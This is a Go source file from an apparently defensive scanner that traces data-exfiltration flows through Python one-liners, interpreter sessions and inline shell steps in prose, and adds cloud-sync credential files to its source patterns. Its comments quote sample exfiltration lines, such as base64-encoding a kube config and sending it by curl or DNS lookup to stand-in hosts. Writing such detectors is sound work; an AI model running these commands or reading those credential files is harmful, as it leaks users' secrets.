package safety

import (
	"strings"
)

// Round 43 (exfil-flow): code read as the language reads it.

// pyInlineDef43: a Python definition whose body follows its colon on the
// same line ("def ship(x): requests.post(url, json={"d": x})"). The body
// is the statement after the colon: a brace in it opens a dict or a set,
// not the body a JavaScript or Go header opens, so funcBody's
// brace-balanced reading would take the dict for the function.
var pyInlineDef43 = lazyRegexp(`^[ \t]*(?:async\s+)?def\s+[A-Za-z_]\w*\s*\([^)\n]*\)\s*(?:->\s*[^:\n]+)?:[ \t]*(\S[^\n]*)$`)

// pyInlineBody43 returns the one-line body of a Python definition at ds.
func pyInlineBody43(block string, ds int) (string, bool) {
	line := block[ds:lineEnd(block, ds)]
	if !strings.Contains(line, "def") || len(line) > 4096 {
		return "", false
	}
	m := pyInlineDef43.FindStringSubmatchIndex(line)
	if m == nil || strings.HasPrefix(line[m[2]:m[3]], "#") {
		return "", false
	}
	return line[m[2]:m[3]], true
}

// replPrompt43: the prompt of an interactive interpreter opening a line
// outside a code fence: IPython's "In [3]:", the Python and Node REPL's
// ">>> " and its continuation "... ". What follows it is code typed into
// that interpreter, and a run of such lines is one session.
var replPrompt43 = lazyRegexp(`^[ \t]*(?:In \[\d{1,4}\]:[ \t]+|>>>[ \t]+|(\.\.\.)[ \t]+)`)

// replStems43: a line must hold one of these to open with a prompt.
var replStems43 = []string{"in [", ">>>", "..."}

// checkReplSession43 reads the prompted lines outside code fences as the
// statements of one interpreter session (the flow analysis, as checkFlow
// reads a fenced block): "In [2]: creds = open(...).read()" then "In [4]:
// socket.gethostbyname(f"{chunk}.x.example")" sends what the first read.
// The session ends at the first line without a prompt or at a fence; at
// most maxTainted prompted lines are read.
func (c *checker) checkReplSession43(d *doc) {
	t := d.v.text
	if !lowerHas(asciiLower(t[:min(len(t), 1<<20)]), replStems43...) {
		return
	}
	var st *flowState
	n := 0
	for ls := 0; ls < len(t); {
		le := lineEnd(t, ls)
		line := t[ls:le]
		m := replPrompt43.FindStringSubmatchIndex(line)
		// "... " only continues a session a primary prompt opened: alone
		// it is an ellipsis in prose.
		if m == nil || m[2] >= 0 && st == nil || n >= maxTainted || d.inFence43(ls) {
			st = nil
		} else {
			if st == nil {
				st = &flowState{names: map[string]string{}, files: map[string]string{}, handles: map[string]bool{}}
			}
			n++
			if ls+m[1] < le {
				c.flowStatement(d, unit{start: ls + m[1], end: le, fence: -1}, st)
			}
		}
		ls = le + 1
	}
}

// inFence43: offset i lies inside a fenced code block.
func (d *doc) inFence43(i int) bool {
	for _, f := range d.fences {
		if f.open <= i && i < f.end {
			return true
		}
	}
	return false
}

// inlineCode43: an inline code span of a prose sentence.
var inlineCode43 = lazyRegexp("`([^`\n]{3,400})`")

// checkInlineSteps43 reads the inline commands of a document's prose
// steps as commands of one shell, in order: a step that fills a variable
// from a secret (`cfg=$(cat ~/.kube/config | base64)`) and a later step
// that sends the variable (`curl "https://x.example/c?d=$cfg"`) are one
// flow, as the two lines of a fenced block are. Each span is read as
// code (checkCommands) only once a span before it has filled a name from
// a source, so sentences that merely quote commands are read as before.
func (c *checker) checkInlineSteps43(d *doc) {
	if !strings.Contains(d.v.text, "`") {
		return
	}
	tn := &taint{}
	spans := 0
	for _, u := range d.units {
		if !d.proseUnit(u) || !strings.Contains(d.unitText(u), "`") {
			continue
		}
		t := d.unitText(u)
		for _, m := range inlineCode43.FindAllStringSubmatchIndex(t, 8) {
			if spans++; spans > 64 {
				return
			}
			code := t[m[2]:m[3]]
			su := unit{start: u.start + m[2], end: u.start + m[3], fence: -1}
			if len(tn.names) == 0 && len(tn.files) == 0 {
				if assignRe.MatchString(code) {
					tn.learn(code, findSources(taintReadPart(code)))
				}
				continue
			}
			c.checkCommands(d, su, code, true, tn)
		}
	}
}

func init() {
	// The config files of sync and object-storage tools keep every
	// remote's keys and OAuth tokens inline (rclone.conf's token and
	// secret_access_key lines, s3cmd's .s3cfg, boto's .boto, s3fs's
	// .passwd-s3fs): reading one reads those credentials, as reading
	// ~/.aws/credentials does.
	flowSourceRe = lazyRegexp(flowSourceRe.String() + `|\brclone\.conf\b|\.config/rclone/|(?:^|[\s"'/~])\.(?:s3cfg|boto|passwd-s3fs)\b`)
	flowSourceKws = append(flowSourceKws, "rclone", ".s3cfg", ".boto", ".passwd-s3fs")
}
